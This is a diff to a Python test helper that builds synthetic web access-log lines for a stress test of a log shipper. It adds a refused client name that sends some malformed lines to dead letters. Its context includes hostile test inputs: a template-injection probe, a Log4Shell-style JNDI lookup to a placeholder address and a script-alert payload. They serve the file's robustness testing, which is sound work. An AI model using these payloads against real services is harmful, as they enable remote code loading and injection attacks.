@@ -6,6 +6,9 @@ from datetime import UTC, datetime
 COMPARED = 500_000
 """Characters of a line that are compared: the shipper keeps a longer one in part, and says so."""
 
+REFUSED = "refused.example"
+"""A client of this name is refused by the torture's own mapping, for good: its lines belong into the dead letters."""
+
 _AGENTS = (
     b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
     b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1",
@@ -21,6 +24,7 @@ _HOSTILE = (
     b"{{7*7}}${jndi:ldap://192.0.2.1/a} <script>alert(1)</script>",
 )
 _ENDS = (b"\n", b"\n", b"\n", b"\r\n")
+_REFUSED_FROM, _REFUSED_TO = 0.07, 0.075
 _LONG, _HUGE = 10_000, 1_200_000
 
 
@@ -45,6 +49,7 @@ def make_line(path: str, dice: random.Random, *, hostile: bool = True, garbage: 
         query = b"?" + b"B" * _HUGE
     when = datetime.now(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
     address = f"198.51.100.{dice.randrange(1, 255)}" if dice.random() < 0.8 else f"2001:db8::{dice.randrange(65_536):x}"
+    address = REFUSED if _REFUSED_FROM < kind < _REFUSED_TO and garbage else address
     head = f'{address} - - [{when}] "{dice.choice(("GET", "GET", "POST"))} {path}'.encode()
     result = f' HTTP/1.1" {dice.choice((200, 200, 304, 404))} {dice.randrange(90_000)} "-" "'.encode()
     return head + query + result + agent + b'"' + (dice.choice(_ENDS) if hostile else b"\n")
